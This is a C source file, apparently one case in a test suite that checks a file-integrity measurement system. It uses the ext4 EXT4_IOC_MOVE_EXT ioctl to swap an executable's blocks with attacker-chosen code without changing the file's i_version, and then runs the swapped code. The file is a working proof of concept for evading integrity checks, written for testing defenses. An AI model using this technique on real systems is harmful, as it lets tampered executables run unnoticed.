/*
 * EXT4_IOC_MOVE_EXT exchanges the blocks of two files; the donor's content changes and its i_version
 * does not. Both are opened before the first use. Argument: after_use, or before_use, where what is cached of the
 * donor stays, and nothing was ever hashed. Must be seen: the new digest, that it is not stable, or a refusal.
 */
#include "attack.h"

struct move_extent {
	uint32_t reserved, donor_fd;
	uint64_t orig_start, donor_start, len, moved_len;
};
#define EXT4_IOC_MOVE_EXT _IOWR('f', 15, struct move_extent)

/* What is left of the donor is zeros: code too, which writes to where %rax points. */
static void it_ran(int signal __attribute__((unused)))
{
	static const char said[] = "ran: evil\n";
	_exit(write(1, said, sizeof(said) - 1) < 0);
}

ATTACK(moved_extents)
{
	size_t size = size_of(CODE);
	char *evil = calloc(1, size);
	void *code;
	int donor, fd;
	struct move_extent move = {.len = size / PAGE};

	memcpy(evil, evil_code, sizeof(evil_code));
	write_file("/data/other", evil, size, 0755);
	fd = opened("/data/other", O_RDWR);
	must(fsync(fd), "fsync");
	donor = opened(CODE, O_RDWR);
	must(fsync(donor), "fsync");
	move.donor_fd = donor;
	if (is_mode(argv, "after_use")) {
		code = map_code(PROT_READ | PROT_EXEC, MAP_PRIVATE);
		call(code);
		munmap(code, PAGE);
		posix_fadvise(donor, 0, 0, POSIX_FADV_DONTNEED);
	} else {
		must(pread(donor, evil, size, 0), "pread");
	}
	posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
	/* Pages that some processor still holds in a batch: busy for a moment. */
	for (int i = 0; i < 50 && ioctl(fd, EXT4_IOC_MOVE_EXT, &move) < 0 && errno == EBUSY; i++)
		usleep(100000);
	if (!move.moved_len)
		must(-1, "EXT4_IOC_MOVE_EXT");
	close(donor);
	close(fd);
	if (is_mode(argv, "before_use")) {
		code = map_code(PROT_READ | PROT_EXEC, MAP_PRIVATE);
		call(code);
		munmap(code, PAGE);
		donor = opened(CODE, O_RDONLY);
		posix_fadvise(donor, 0, 0, POSIX_FADV_DONTNEED);
	}
	truth(CODE);
	signal(SIGSEGV, it_ran);
	call(map_code(PROT_READ | PROT_EXEC, MAP_PRIVATE));
	return 0;
}
